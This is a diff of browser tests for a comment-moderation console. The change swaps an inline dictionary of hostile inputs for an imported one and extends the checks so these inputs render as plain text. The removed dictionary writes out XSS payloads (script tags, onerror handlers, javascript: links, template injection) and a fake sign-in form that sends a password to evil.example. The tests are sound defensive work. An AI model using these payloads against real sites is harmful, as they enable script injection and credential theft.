@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 from console_support import CHROMIUM, PASSWORD, Newsroom, Open, eventually, message, shown
+from naughty import NAUGHTY
 from playwright.sync_api import expect
 
 from service.demo import COMMENTS
@@ -17,20 +18,6 @@ LARGEST_PAGE = 150_000
 pytestmark = pytest.mark.skipif(
     CHROMIUM is None and not os.environ.get("CI"), reason="there is no chromium on this machine"
 )
-
-HOSTILE = {
-    "script": "<script>document.title = 'taken'; alert(1)</script>",
-    "image": '"><img src=x onerror="alert(document.domain)">',
-    "markup": "</div></article><h1>Signed out</h1><form action=//evil.example><input name=password></form>",
-    "style": "{{constructor.constructor('alert(1)')()}} ${alert(1)} javascript:alert(1) &lt;b&gt;"
-    "<style>* { display: none }</style><svg onload=alert(1)><a href='javascript:alert(1)'>x</a>",
-    "direction": "abc \u202e gnp.exe \u2066 fed \u202d\u202e never closed",
-    "zalgo": "".join(letter + "\u0300\u0316\u0353\u034e\u0489" * 20 for letter in "stacked accents"),
-    "controls": "before\0after \x1b[31m\x07\ufeff\u200bend",
-    "endless": "W" * 20_000,
-    "wide": "\ufdfd" * 300 + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 50,
-    "lines": "first\n\n\tindented   by  spaces\r\nlast",
-}
 
 
 def test_a_wrong_password_is_told_and_a_right_one_opens_the_queue(newsroom: Newsroom, open_page: Open) -> None:
@@ -185,38 +172,52 @@ def test_everything_that_helps_to_decide_is_on_screen(newsroom: Newsroom, open_p
 
 
 def test_hostile_texts_are_shown_as_text_and_do_nothing(newsroom: Newsroom, open_page: Open) -> None:
-    texts = {}
-    for name, text in HOSTILE.items():
-        around = text[:200]
-        case = newsroom.post(
-            f"hostile-{name}",
-            text,
-            author={"name": around},
-            article={"title": around, "url": "https://news.example/" + "x" * 500},
-            parent={"text": text},
-        )
-        texts[case] = text
+    newsroom.post_many(
+        [
+            {
+                "id": f"naughty-{name}",
+                "text": text,
+                "author": {"name": text[:200]},
+                "article": {"title": text[:200], "url": "https://news.example/" + "x" * 500},
+                "parent": {"text": text},
+            }
+            for name, text in NAUGHTY.items()
+        ]
+    )
     page = open_page(width=360, height=740)
     requests: list[str] = []
     page.on("request", lambda request: requests.append(request.url))
+    texts = dict(NAUGHTY)
     case = ""
-    for _ in HOSTILE:
+    while texts:
         case = shown(page, after=case)
-        text = texts.pop(case)
-        for place in ("case-text", "case-parent-text"):
-            assert page.evaluate("id => document.getElementById(id).textContent", place) == text
+        name, text = _matching(texts, page.evaluate("document.getElementById('case-text').textContent"))
+        del texts[name]
+        assert page.evaluate("document.getElementById('case-parent-text').textContent") == text
         inside = page.locator(":is(#case-text, #case-parent-text, #case-title, #case-author, #case-url) :not(mark)")
         assert inside.count() == 0
-        assert page.locator("#case :is(script, style, img, svg, iframe, a, form[action])").count() == 0
+        assert page.locator("#review :is(script, style, img, svg, iframe, a, form[action])").count() == 0
         width = page.evaluate("Math.max(document.documentElement.scrollWidth, document.body.scrollWidth)")
-        assert width <= 360, f"{newsroom.cases[case]} makes the page {width} px wide"
+        assert width <= 360, f"{name} makes the page {width} px wide"
         # Whatever the text, the buttons stay on screen and in their place.
         expect(page.get_by_role("button", name="Approve")).to_be_in_viewport(ratio=1)
+        if page.locator("#copies-check").is_visible():
+            page.keyboard.press("c")
         page.keyboard.press("a")
     expect(page.get_by_role("heading", name="All clear")).to_be_visible()
-    assert texts == {}
-    expect(page).to_have_title("Ombud")
+    for view in ("search?status=decided", "raids", "statistics"):
+        page.evaluate("view => location.hash = view", view)
+        expect(page.locator("#place > [aria-busy=false]")).to_be_visible()
+        assert page.locator("#place :is(script, style, img, iframe, form[action])").count() == 0
+        assert page.evaluate("document.documentElement.scrollWidth") <= 360, view
+        assert page.title().endswith("Ombud")
     assert all(url.startswith(newsroom.running.url) for url in requests)
+
+
+def _matching(texts: dict[str, str], seen: str) -> tuple[str, str]:
+    found = [(name, text) for name, text in texts.items() if text == seen]
+    assert found, f"not shown as it was sent: {seen[:100]!r}"
+    return found[0]
 
 
 def test_what_cannot_be_seen_in_a_text_is_said(newsroom: Newsroom, open_page: Open) -> None:
@@ -415,34 +416,3 @@ def test_all_files_of_the_page_together_are_small() -> None:
     files = list((ROOT / "service" / "web" / "static").iterdir())
     assert {file.suffix for file in files} == {".html", ".css", ".js", ".svg"}
     assert sum(file.stat().st_size for file in files) < LARGEST_PAGE
-
-
-@pytest.mark.skipif("SCREENSHOTS" not in os.environ, reason="pictures are made when SCREENSHOTS is set")
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_a_picture_for_the_readme(newsroom: Newsroom, open_page: Open, scheme: str) -> None:
-    for number in range(2):
-        newsroom.post(f"picture-{scheme}-{number}", "What a match!", key=newsroom.sports_key)
-    bridge = {"title": "City council votes to close the old bridge to cars", "url": "https://news.example/old-bridge"}
-    for number in range(3):
-        newsroom.post(
-            f"picture-{scheme}-{number}", f"The square is so much quieter now, {number} of 3.", article=bridge
-        )
-    newsroom.post(
-        f"picture-{scheme}",
-        "Oh please. The whole council is a bunch of idiots, and whoever cheers for this is too stupid to read a "
-        "map.\n\nName ONE thing these clowns have built on time. I’ll wait.",
-        author={"name": "hardliner_58"},
-        article=bridge,
-        parent={"text": "About time. I cycle there every morning, and the square was so quiet in the trial week."},
-    )
-    page = open_page(height=720, scheme=scheme)
-    shown(page)
-    expect(page.get_by_text("hardliner_58")).to_be_visible()
-    if scheme == "dark":
-        page.keyboard.press("r")
-        page.wait_for_timeout(300)
-    page.mouse.move(0, 0)
-    picture = ROOT / "docs" / "pictures" / f"console-{scheme}.png"
-    picture.parent.mkdir(parents=True, exist_ok=True)
-    page.screenshot(path=picture)
-    assert picture.stat().st_size < 150_000
